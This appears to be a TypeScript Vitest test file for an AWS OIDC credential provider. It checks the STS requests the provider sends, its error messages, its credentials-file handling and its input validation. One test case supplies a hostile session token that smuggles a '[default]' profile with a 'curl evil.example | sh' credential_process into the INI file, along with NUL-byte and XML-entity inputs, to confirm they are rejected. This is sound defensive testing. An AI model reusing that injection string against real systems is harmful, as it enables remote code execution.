import { readdirSync, readFileSync, statSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { type AwsStsOptions, startAwsSts, throttled, toXml } from '../fakes/aws-sts.js';
import { errorCodes, oidcAudiences, world } from './setup.js';
import { expectMode } from '../fakes/host.js';

const ROLE = 'arn:aws:iam::123456789012:role/deploy';

async function awsWorld(options: { allowedSubjects?: string[]; maxSessionDuration?: number; hostile?: NonNullable<AwsStsOptions['hostile']> } = {}) {
  const w = await world();
  const sts = w.adopt(await startAwsSts({ trustedIssuer: w.runner.issuer, ...options }));
  const entry = (extra = '') => `- provider: aws\n  role: ${ROLE}\n  region: eu-west-1\n  sts-endpoint: ${sts.url}/${extra}`;
  return { ...w, sts, entry };
}

describe('provider: aws', () => {
  it('assumes the role with exactly the documented STS fields and exports what workflows expect', async () => {
    const w = await awsWorld();
    const policy = '{ "Version": "2012-10-17", "Statement": [{ "Effect": "Allow", "Action": "s3:GetObject", "Resource": "*" }] }';
    const credentials = `${w.entry()}
  duration: 20m
  session-policy: '${policy}'
  managed-session-policies: [arn:aws:iam::aws:policy/ReadOnlyAccess, arn:aws:iam::123456789012:policy/deploy]`;
    const { main, post } = await w.job2({ credentials });

    expect(main.code).toBe(0);
    expect(oidcAudiences(w.runner)).toEqual(['sts.amazonaws.com']);
    const [request] = w.sts.requests;
    expect(request?.headers['content-type']).toBe('application/x-www-form-urlencoded; charset=utf-8');
    expect(request?.headers.authorization).toBeUndefined();
    expect(Object.fromEntries(new URLSearchParams(request?.body))).toEqual({
      Action: 'AssumeRoleWithWebIdentity',
      Version: '2011-06-15',
      RoleArn: ROLE,
      RoleSessionName: 'keyless-acme-widget-9876543210-1',
      WebIdentityToken: w.runner.issued[0],
      DurationSeconds: '1200',
      Policy: JSON.stringify(JSON.parse(policy)),
      'PolicyArns.member.1.arn': 'arn:aws:iam::aws:policy/ReadOnlyAccess',
      'PolicyArns.member.2.arn': 'arn:aws:iam::123456789012:policy/deploy',
    });
    const [keyId, secret, session] = w.sts.issued;
    expect(main.env).toEqual({
      AWS_ACCESS_KEY_ID: keyId,
      AWS_SECRET_ACCESS_KEY: secret,
      AWS_SESSION_TOKEN: session,
      AWS_REGION: 'eu-west-1',
      AWS_DEFAULT_REGION: 'eu-west-1',
    });
    expect(main.outputs['aws-account-id']).toBe('123456789012');
    expect(main.outputs['aws-arn']).toBe('arn:aws:sts::123456789012:assumed-role/deploy/keyless-acme-widget-9876543210-1');
    expect(Date.parse(main.outputs['aws-expires-at'] ?? '') - Date.now()).toBeGreaterThan(19 * 60_000);
    // The region is not a secret: masking it would blank every "eu-west-1" in the job log.
    expect(main.stdout).not.toContain('::add-mask::eu-west-1');
    expect(post.code).toBe(0);
    expect(post.stdout).toContain('not revocable aws "aws": STS session credentials cannot be revoked one by one');
    w.expectNoLeaks([main, post]);
  });

  it('explains a trust-policy refusal with the claims to compare, and does not retry it', async () => {
    const w = await awsWorld({ allowedSubjects: ['repo:acme/widget:environment:production'] });
    const main = await w.main({ credentials: w.entry() });
    expect(main.code).toBe(1);
    expect(errorCodes(main)).toEqual(['EXCHANGE_DENIED']);
    expect(main.stdout).toContain('HTTP 403: AccessDenied "Not authorized to perform sts:AssumeRoleWithWebIdentity"');
    expect(main.stdout).toContain('sub="repo:acme/widget:ref:refs/heads/main" aud="sts.amazonaws.com"');
    expect(main.stdout).toContain(`The token carried iss="${w.runner.issuer}" sub=`);
    expect(w.sts.requests).toHaveLength(1);
    w.expectNoLeaks([main]);
  });

  it('names the issuer of the token in the setup hint: GitHub Enterprise Server is not github.com', async () => {
    const w = await awsWorld({ allowedSubjects: ['repo:acme/widget:environment:production'] });
    w.runner.claims.iss = 'https://ghes.acme.example/_services/token';
    const main = await w.main({ credentials: w.entry() });
    expect(errorCodes(main)).toEqual(['EXCHANGE_DENIED']);
    expect(main.stdout).toContain('The token carried iss="https://ghes.acme.example/_services/token" sub=');
    expect(main.stdout).toContain('the IAM OIDC provider for ghes.acme.example/_services/token must exist, and its conditions on ghes.acme.example/_services/token:aud and :sub');
    expect(main.stdout).not.toContain('githubusercontent');
    w.expectNoLeaks([main]);
  });

  it('reports InvalidIdentityToken when the token has the wrong audience', async () => {
    const w = await awsWorld();
    const main = await w.main({ credentials: `${w.entry()}\n  oidc-audience: https://github.com/acme` });
    expect(errorCodes(main)).toEqual(['EXCHANGE_DENIED']);
    expect(main.stdout).toContain('InvalidIdentityToken "Incorrect token audience"');
    expect(main.stdout).toContain('aud="https://github.com/acme"');
  });

  it('retries STS throttling (HTTP 400 Throttling) and then succeeds', async () => {
    const w = await awsWorld();
    w.sts.faults.push(throttled, throttled);
    const main = await w.main({ credentials: w.entry() });
    expect(main.code).toBe(0);
    expect(w.sts.requests).toHaveLength(3);
    w.expectNoLeaks([main]);
  });

  it('names the role limit when the duration exceeds it', async () => {
    const w = await awsWorld({ maxSessionDuration: 3600 });
    const main = await w.main({ credentials: `${w.entry()}\n  duration: 2h` });
    expect(errorCodes(main)).toEqual(['EXCHANGE_FAILED']);
    expect(main.stdout).toContain('ValidationError "The requested DurationSeconds exceeds the MaxSessionDuration set for this role."');
  });

  it('writes named profiles into one 0600 shared credentials file, deleted at post', async () => {
    const w = await awsWorld();
    const credentials = `${w.entry()}\n  id: prod\n  profile: prod\n${w.entry()}\n  id: staging\n  profile: staging`;
    const main = await w.main({ credentials });
    expect(main.code).toBe(0);
    const path = main.env.AWS_SHARED_CREDENTIALS_FILE ?? '';
    expect(path.startsWith(w.job.temp)).toBe(true);
    expectMode(path, 0o600);
    const ini = readFileSync(path, 'utf8');
    expect(ini).toContain('[prod]\naws_access_key_id = ');
    expect(ini).toContain('[staging]\naws_access_key_id = ');
    expect(main.env.AWS_ACCESS_KEY_ID).toBeUndefined();
    const post = await w.post({ credentials }, main);
    expect(() => statSync(path)).toThrow();
    w.expectNoLeaks([main, post]);
  });

  it('writes no profile file for an entry exported only as outputs, or not at all', async () => {
    const w = await awsWorld();
    const credentials = `${w.entry()}\n  id: quiet\n  profile: quiet\n  export: none\n${w.entry()}\n  id: loud\n  profile: loud\n  export: [outputs]`;
    const main = await w.main({ credentials });
    expect(main.code).toBe(0);
    expect(main.env).toEqual({});
    expect(readdirSync(w.job.temp).filter((name) => name.startsWith('keyless-') && !name.startsWith('keyless-audit-'))).toEqual([]);
    expect(w.sts.issued).toContain(main.outputs['loud-secret-access-key']);
    expect(main.outputs['quiet-secret-access-key']).toBeUndefined();
    w.expectNoLeaks([main], { outputs: true });
  });

  it.each([
    ['a line break that adds a profile the SDK would run', { SessionToken: 'IQoJb3JpZ2luX2Vj\n[default]\ncredential_process = sh -c "curl evil.example | sh"' }, 'SessionToken in a form that is not printable ASCII'],
    ['a NUL in the secret key', { SecretAccessKey: 'wJalrXUtnFEMI/K7MDENG\u0000bPxRfiCYEXAMPLEKEY' }, 'SecretAccessKey in a form that is not printable ASCII'],
    ['an access key id outside its documented alphabet', { AccessKeyId: 'ASIA[default]' }, 'AccessKeyId in a form that is not 16–128 upper-case letters and digits'],
    ['quotes and a comment that INI parsers read differently', { SessionToken: 'IQoJb3Jp"x";#y' }, 'aws_session_token cannot be written into the AWS shared credentials file'],
  ])('refuses a session with %s: no credentials file, nothing exported', async (_name, hostile, message) => {
    const w = await awsWorld({ hostile });
    const main = await w.main({ credentials: `${w.entry()}\n  profile: deploy` });
    expect(main.code).toBe(1);
    expect(errorCodes(main)).toEqual(['HTTP_BAD_RESPONSE']);
    expect(main.stdout).toContain(`aws "aws": `);
    expect(main.stdout).toContain(message);
    expect(main.stdout).not.toContain('credential_process');
    expect(main.stdout).not.toContain('[default]');
    expect(main.files.env).toBe('');
    // Only the audit record: no credentials file, no private folder.
    expect(readdirSync(w.job.temp).filter((name) => !name.startsWith('keyless-audit-'))).toEqual([]);
    w.expectNoLeaks([main]);
  });

  it.each([
    ['an HTML page instead of XML', { kind: 'html' } as const, 'answered HTTP 200 with text/html, not XML'],
    ['XML that is not well formed', { kind: 'status', status: 200, body: '<AssumeRoleWithWebIdentityResponse><AssumeRoleWithWebIdentityResult>' } as const, 'answered XML that cannot be read: <AssumeRoleWithWebIdentityResult> is never closed'],
    ['XML with an entity definition', { kind: 'status', status: 200, body: '<!DOCTYPE x [<!ENTITY a "b">]><x/>' } as const, 'answered XML that cannot be read: a DOCTYPE'],
    ['the answer of another action', { kind: 'status', status: 200, body: '<AssumeRoleResponse><AssumeRoleResult/></AssumeRoleResponse>' } as const, 'answered 200 without the documented AssumeRoleWithWebIdentityResult'],
  ])('refuses %s with a 200, and exports nothing', async (_name, fault, message) => {
    const w = await awsWorld();
    w.sts.faults.push(fault);
    const main = await w.main({ credentials: w.entry() });
    expect(errorCodes(main)).toEqual(['HTTP_BAD_RESPONSE']);
    expect(main.stdout).toContain(`aws "aws": AWS STS ${w.sts.url} ${message}`);
    expect(main.env).toEqual({});
    w.expectNoLeaks([main]);
  });

  it('refuses an assumed-role ARN that names no account when allowed-account-ids is set', async () => {
    const w = await awsWorld();
    const answer = toXml({
      AssumeRoleWithWebIdentityResponse: {
        AssumeRoleWithWebIdentityResult: {
          Credentials: { AccessKeyId: 'ASIAIOSFODNN7EXAMPLE', SecretAccessKey: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY', SessionToken: 'IQoJb3JpZ2luX2VjEXAMPLETOKEN0123456789', Expiration: '2030-01-01T00:00:00Z' },
          AssumedRoleUser: { Arn: 'deploy', AssumedRoleId: 'AROA:x' },
        },
      },
    });
    w.sts.faults.push({ kind: 'status', status: 200, body: answer });
    w.sts.issued.push('wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY', 'IQoJb3JpZ2luX2VjEXAMPLETOKEN0123456789');
    const main = await w.main({ credentials: w.entry('\n  allowed-account-ids: "123456789012"') });
    expect(errorCodes(main)).toEqual(['HTTP_BAD_RESPONSE']);
    expect(main.stdout).toContain('answered an AssumedRoleUser ARN that names no account, so allowed-account-ids cannot be checked');
    expect(main.env).toEqual({});
    w.expectNoLeaks([main]);
  });

  it('uses AWS_ENDPOINT_URL_STS, as the AWS SDKs do, when no sts-endpoint is set', async () => {
    const w = await awsWorld();
    const main = await w.main({ credentials: `- provider: aws\n  role: ${ROLE}\n  region: us-east-1` }, { AWS_ENDPOINT_URL_STS: w.sts.url });
    expect(main.code).toBe(0);
    expect(w.sts.requests).toHaveLength(1);
  });

  it.each([
    ['a role that is not an ARN', 'role: deploy', /credentials\[0\]\.role \(line 2\): is not a role ARN/],
    ['a duration beyond 12 hours', 'duration: 13h', /duration \(line 4\): 13h is outside 900s–43200s/],
    ['a session policy that is not JSON', "session-policy: '{nope'", /session-policy \(line 4\): is not valid JSON/],
    ['session tags', 'session-tags: {team: a}', /takes session tags from the token/],
    ['an http endpoint that is not loopback', 'sts-endpoint: http://sts.example.com', /is not https/],
  ])('rejects %s before any request', async (_name, line, message) => {
    const w = await awsWorld();
    const base = `- provider: aws\n  role: ${ROLE}\n  region: eu-west-1`;
    const credentials = line.startsWith('role:') ? `- provider: aws\n  ${line}\n  region: eu-west-1` : `${base}\n  ${line}`;
    const main = await w.main({ credentials });
    expect(errorCodes(main)).toEqual(['INPUT_INVALID']);
    expect(main.stdout).toMatch(message);
    expect(w.runner.requests).toEqual([]);
  });
});
